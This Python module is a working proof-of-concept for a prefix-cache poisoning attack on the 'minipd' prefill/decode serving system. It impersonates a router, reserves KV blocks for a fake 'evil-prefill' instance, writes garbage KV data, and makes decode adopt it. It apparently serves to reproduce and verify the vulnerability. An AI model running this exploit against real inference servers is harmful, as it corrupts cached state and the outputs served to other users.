"""The prefix-cache poisoning as it was found: a local process without credentials says Hello to
a decode instance as if it were a router, reserves blocks for a made-up prefill instance,
writes garbage KV into them over the tcp KV port, and has decode adopt them, so that the
garbage sits in decode's prefix cache under the prompt's first blocks.

Written with plain sockets and the wire messages only (no handshake helper), as an attacker
would, so it runs against any version of minipd; it reports how far each step got.
"""

from __future__ import annotations

import asyncio
import struct
from dataclasses import dataclass, field

import msgspec
import numpy as np

from minipd.control.messages import PROTOCOL_VERSION, AnyMessage, Decode, Hello, Reserve, Reserved, TokenOutput, Welcome
from minipd.control.role import Role
from minipd.engine.sampling_params import SamplingParams
from minipd.transports import wire as kv

CONTROL_HEADER = struct.Struct(">I")
KV_PREFIX = struct.Struct("!I")
READ_TIMEOUT_S = 3.0
FAKE_PREFILL = "evil-prefill"
REQUEST_ID = "poison"
GUESSED_BLOCKS = [0, 1, 2]  # where the garbage goes when no reservation told us


@dataclass
class AttackReport:
    welcomed: bool = False  # the decode instance answered our Hello with a Welcome
    first_reply: str = ""  # what it answered instead
    reserved: list[int] | None = None  # the blocks it reserved for the fake prefill instance
    kv_answers: list[str] = field(default_factory=list)  # what the KV port said to our link
    adopted_tokens: list[int] = field(default_factory=list)  # decode streamed these for the poisoned request


async def poison_prefix(
    control: tuple[str, int],
    kv_port: tuple[str, int],
    token_ids: list[int],
    num_layers: int,
    block_bytes: int,
    seed: int = 0,
) -> AttackReport:
    report = AttackReport()
    reader, writer = await asyncio.open_connection(*control)
    kv_reader, kv_writer = await asyncio.open_connection(*kv_port)
    try:
        await _send(writer, Hello(protocol_version=PROTOCOL_VERSION, role=Role.ROUTER, call_id=1))
        reply = await _read(reader)
        report.welcomed = isinstance(reply, Welcome)
        report.first_reply = type(reply).__name__ if reply is not None else "connection closed"
        await _send(
            writer, Reserve(request_id=REQUEST_ID, token_ids=token_ids, prefill_instance=FAKE_PREFILL, call_id=2)
        )
        reserved = await _read(reader)
        if isinstance(reserved, Reserved):
            report.reserved = reserved.dst_block_ids
        blocks = report.reserved or GUESSED_BLOCKS
        kv_writer.write(_kv_frame(kv.Hello(FAKE_PREFILL, num_layers, block_bytes)))
        garbage = np.random.default_rng(seed).normal(0, 2, len(blocks) * block_bytes // 4).astype(np.float32)
        for layer in range(num_layers):
            runs = [(block, 1) for block in blocks]
            kv_writer.write(_kv_frame(kv.LayerHeader(REQUEST_ID, layer, runs, len(blocks) * block_bytes)))
            kv_writer.write(garbage.tobytes())
        kv_writer.write(_kv_frame(kv.Finish(REQUEST_ID, num_layers * len(blocks) * block_bytes)))
        await _drain_quietly(kv_writer)
        report.kv_answers = await _kv_answers(kv_reader)
        await _send(
            writer,
            Decode(
                request_id=REQUEST_ID,
                first_token=0,
                sampling=SamplingParams(max_tokens=2, temperature=0.0, ignore_eos=True),
            ),
        )
        while (message := await _read(reader)) is not None:
            if isinstance(message, TokenOutput):
                report.adopted_tokens += message.output.token_ids
                if message.output.finished:
                    break
    finally:
        for w in (writer, kv_writer):
            w.close()
    return report


async def _send(writer: asyncio.StreamWriter, message) -> None:
    payload = msgspec.msgpack.encode(message)
    writer.write(CONTROL_HEADER.pack(len(payload)) + payload)
    await _drain_quietly(writer)


async def _drain_quietly(writer: asyncio.StreamWriter) -> None:
    try:
        await writer.drain()
    except ConnectionError:
        pass  # the other side hung up on us: what the report then shows


async def _read(reader: asyncio.StreamReader):
    """The next control message, or None if the connection closed or stayed silent."""
    try:
        (length,) = CONTROL_HEADER.unpack(
            await asyncio.wait_for(reader.readexactly(CONTROL_HEADER.size), READ_TIMEOUT_S)
        )
        payload = await asyncio.wait_for(reader.readexactly(length), READ_TIMEOUT_S)
    except (asyncio.IncompleteReadError, ConnectionError, asyncio.TimeoutError):
        return None
    return msgspec.msgpack.decode(payload, type=AnyMessage)


def _kv_frame(message) -> bytes:
    header = msgspec.msgpack.encode(message)
    return KV_PREFIX.pack(len(header)) + header


async def _kv_answers(reader: asyncio.StreamReader) -> list[str]:
    """Whatever the receiver sent on our link, as message names (a Refused with its reason)."""
    answers = []
    while True:
        try:
            (length,) = KV_PREFIX.unpack(await asyncio.wait_for(reader.readexactly(KV_PREFIX.size), READ_TIMEOUT_S))
            header = await asyncio.wait_for(reader.readexactly(length), READ_TIMEOUT_S)
        except (asyncio.IncompleteReadError, ConnectionError, asyncio.TimeoutError):
            return answers
        message = msgspec.msgpack.decode(header)
        answers.append(f"{message.get('type')}: {message.get('reason', '')}".rstrip(": "))
